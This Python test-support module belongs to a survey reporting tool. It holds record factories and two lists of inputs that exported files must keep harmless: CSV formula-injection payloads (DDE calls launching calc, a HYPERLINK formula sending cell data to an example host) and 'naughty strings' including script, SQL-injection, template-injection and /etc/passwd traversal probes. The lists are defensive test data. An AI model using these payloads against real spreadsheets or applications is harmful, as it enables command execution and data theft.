"""A small round, made of plain records, and the texts that files must carry unharmed."""

from datetime import UTC, datetime

from survey.comparison.counted import NOTHING
from survey.comparison.records import AnswerRecord, ReportRecord, any_fictitious
from survey.downloads.content import Content
from survey.questionnaire.structure import questionnaire
from survey.rounds.projects_file import ListedProject
from tests.support.factories import document, verdict

SIGNED = datetime(2001, 10, 12, 9, 30, tzinfo=UTC)
#: what runs in a spreadsheet that trusts it (OWASP, CSV Injection), with every first character that counts
INJECTIONS = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    "   =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    " \t=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    " ＝1+1",
    "\ttab",
    "\rreturn",
    "\nline",
    "\0nothing",
    "-",
    "-5",
    "+41 22 717 91 11",
    "@",
)
#: on the lines of the Big List of Naughty Strings
NAUGHTY = (
    "",
    " ",
    "'",
    "''",
    "'=1+1",
    "''=1+1",
    " '",
    "'-5",
    '"',
    '""',
    '"quoted"',
    "a,b;c\td",
    "line\nline",
    "line\r\nline",
    "line\rline",
    "ends with a break\n",
    "all, \"at\" once;\r\n'and' more",
    "undefined",
    "NULL",
    "None",
    "NaN",
    "TRUE",
    "0",
    "007",
    "1e10",
    "1/2",
    "2001-10-12",
    "0x1f",
    "1,000.5",
    "\ufeffmark first",
    "mark \ufeff inside",
    "\u200bzero width",
    "\u202eright to left",
    "العربية",
    "田中さん",
    "é e\u0301",
    "👩‍👩‍👧 🇨🇭 𝒳",
    "<script>alert(1)</script>",
    "' OR 1=1 --",
    "${7*7} {{7*7}} %s %n",
    "../../etc/passwd",
    "[no_answer]",
    "x" * 20_000,
)


def version(*parts, number=1, **fields):
    """A version of a trial questionnaire with one question of these parts."""
    return questionnaire(document(*parts, **fields), number)


def two_versions():
    """Two versions by id: the second one adds a question of its own, in front of the sections there were."""
    kept = document({"code": "told"}, verdict("seen"), versions=(1, 2))
    added = document(verdict("new"), since=2, question="X_ADDED")["sections"][0] | {"code": "TWO"}
    whole = kept | {"sections": [added, *kept["sections"]]}
    return {11: questionnaire(whole, 1), 12: questionnaire(whole, 2)}


def report(id=1, state="submitted", **fields):
    default = {
        "public_id": f"{id:016x}",
        "fictitious": False,
        "version_id": 11,
        "version_number": 1,
        "saved_at": SIGNED,
        "submitted_at": SIGNED if state == "submitted" else None,
        "report_kind": "final",
        "number": id,
        "project_code": f"2001-{id:02d}",
        "project": f"Project {id}",
        "mission": "Chad",
        "country": "TCD",
        "region": "Africa",
        "funding_usd": 5000,
        "service_areas": ("research", "migrant health"),
        "round_code": "2001",
    }
    return ReportRecord(id=id, state=state, **(default | fields))


def answer(part_code, value="", status="answered", *, report_id=1, **fields):
    default = {"question_version": 1, "language": "en", "answered_at": SIGNED}
    return AnswerRecord(
        report_id=report_id, part_code=part_code, status=status, value=value, **(default | fields)
    )


def project(number=1, **fields):
    default = {
        "title": "Project",
        "mission": "Chad",
        "country": "TCD",
        "region": "Africa",
        "service_areas": ("research", "migrant health"),
        "target_group": "all",
        "status": "completed",
        "report_kind": "final",
        "constraint_kinds": ("funding", "data"),
        "reason_not_completed": "",
        "results": "=1+1",
        "funding_usd": 5000,
    }
    return ListedProject(number=number, **(default | fields))


def content(reports=(), versions=None, answers=(), projects=(), counted=NOTHING, size=2):
    """A round's content, read two reports at a time, with the answers to the parts that a file asks for only."""

    def batches(parts):
        for start in range(0, len(reports), size):
            own = {}
            for one in answers:
                if parts is None or one.part_code in parts:
                    own.setdefault(one.report_id, []).append(one)
            yield reports[start : start + size], own

    return Content(
        due=len(reports),
        holds_fictitious=any_fictitious(reports),
        versions=versions or {11: version()},
        batches=batches,
        projects=lambda: list(projects),
        counted=lambda: counted,
    )
